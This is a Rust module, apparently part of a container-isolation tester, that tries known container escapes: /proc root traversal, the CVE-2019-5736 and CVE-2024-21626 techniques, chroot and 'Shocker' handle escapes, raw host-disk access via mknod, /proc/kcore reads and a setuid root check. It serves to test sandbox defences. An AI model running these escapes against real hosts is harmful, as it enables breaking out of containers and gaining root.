//! Ways to files outside.

use std::fs::{self, File, OpenOptions};
use std::io::{self, Read, Seek, SeekFrom};
use std::os::fd::{AsRawFd, FromRawFd};
use std::process::Command;

use super::facts;
use super::system::{Got, any, called, fact, held, is_marker, read_marker, text};

pub(crate) const ATTEMPTS: &[super::Attempt] = &[
    ("marker", marker),
    ("process-roots", process_roots),
    ("own-program", own_program),
    ("leaked-descriptor", leaked_descriptor),
    ("parent-directories", parent_directories),
    ("chroot", chroot),
    ("file-handle", file_handle),
    ("mknod", mknod),
    ("volume-device", volume_device),
    ("kernel-memory", kernel_memory),
    ("set-user-id", set_user_id),
];

/// By its name.
fn marker() -> Got {
    read_marker(&fact(facts::MARKER))
}

/// Through what /proc shows of any process.
fn process_roots() -> Got {
    let marker = fact(facts::MARKER);
    let names = fs::read_dir("/proc")?.flatten().map(|entry| entry.file_name());
    let names = names.filter_map(|name| name.into_string().ok());
    let processes = names.filter(|name| name.starts_with(|c: char| c.is_ascii_digit()));
    any(processes, |process| read_marker(&format!("/proc/{process}/root{marker}")))
}

/// CVE-2019-5736: the program file of whoever started this. It can't be written to while it is executed;
/// who may write to it is told that, and waits.
fn own_program() -> Got {
    match OpenOptions::new().write(true).open("/proc/1/exe") {
        Err(error) if error.raw_os_error() != Some(libc::ETXTBSY) => Err(error),
        _ => Ok("init's program can be written to as soon as it does not run".into()),
    }
}

/// CVE-2024-21626: a descriptor of something outside.
fn leaked_descriptor() -> Got {
    let marker = fact(facts::MARKER);
    let name = marker.rsplit('/').next().unwrap();
    for number in 3..1024 {
        if unsafe { libc::fchdir(number) } == 0
            && let Ok(proof) = read_marker(name).or_else(|_| parent_directories())
        {
            return Ok(format!("{proof} by descriptor {number}"));
        }
    }
    Err(held("no descriptor leads out"))
}

/// By so many steps up, from where the command starts.
fn parent_directories() -> Got {
    read_marker(&format!("{}{}", "../".repeat(64), fact(facts::MARKER)))
}

/// The classic: a second chroot, and up from a directory that was left outside of it.
fn chroot() -> Got {
    let outside = File::open("/")?;
    fs::create_dir_all("/tmp/jail")?;
    called(unsafe { libc::chroot(text("/tmp/jail").as_ptr()) }.into())?;
    called(unsafe { libc::fchdir(outside.as_raw_fd()) }.into())?;
    for _ in 0..64 {
        std::env::set_current_dir("..")?;
    }
    read_marker(&format!(".{}", fact(facts::MARKER)))
}

/// "Shocker": a file outside of a volume, by its handle in the volume's file system.
fn file_handle() -> Got {
    let digits = fact(facts::HANDLE);
    let byte = |at: usize| u8::from_str_radix(&digits[at..at + 2], 16).unwrap();
    let mut handle: Vec<u8> = (0..digits.len()).step_by(2).map(byte).collect();
    let volume = File::open("/given")?;
    let fd = called(unsafe {
        let handle = handle.as_mut_ptr();
        libc::syscall(libc::SYS_open_by_handle_at, volume.as_raw_fd(), handle, libc::O_RDONLY)
    })?;
    let mut content = Vec::new();
    unsafe { File::from_raw_fd(fd.try_into().unwrap()) }.read_to_end(&mut content)?;
    is_marker(&content)?;
    Ok("read the marker by its handle".into())
}

/// The first sector of the host's first disk.
fn mknod() -> Got {
    let disk = fact(facts::DISK);
    let (major, minor) = disk.split_once(':').unwrap();
    let device = libc::makedev(major.parse().unwrap(), minor.parse().unwrap());
    let node = text("/tmp/disk");
    called(unsafe { libc::mknod(node.as_ptr(), libc::S_IFBLK | 0o600, device) }.into())?;
    let read = read_start("/tmp/disk");
    fs::remove_file("/tmp/disk")?;
    read
}

/// A device node that somebody else has made: in a volume. This one is of no harm.
fn volume_device() -> Got {
    read_start("/given/zero")
}

fn read_start(path: &str) -> Got {
    let mut start = [1; 512];
    File::open(path)?.read_exact(&mut start)?;
    Ok(format!("read from {path}"))
}

fn kernel_memory() -> Got {
    let mut kernel = File::open("/proc/kcore")?;
    kernel.seek(SeekFrom::Start(0))?;
    let mut start = [0; 4];
    kernel.read_exact(&mut start)?;
    if start == *b"\x7fELF" { Ok("read the kernel's memory".into()) } else { Err(held("empty")) }
}

/// A program of the image that belongs to root, as another user.
fn set_user_id() -> Got {
    let output = Command::new("/bin/raise").arg("who").output()?;
    match (nix::unistd::getuid().as_raw(), &*output.stdout) {
        (0, _) => Err(io::Error::other("this has to be tried by another user than root")),
        (_, b"0") => Ok("became root".into()),
        (_, other) => Err(held(&format!("still user {}", String::from_utf8_lossy(other)))),
    }
}
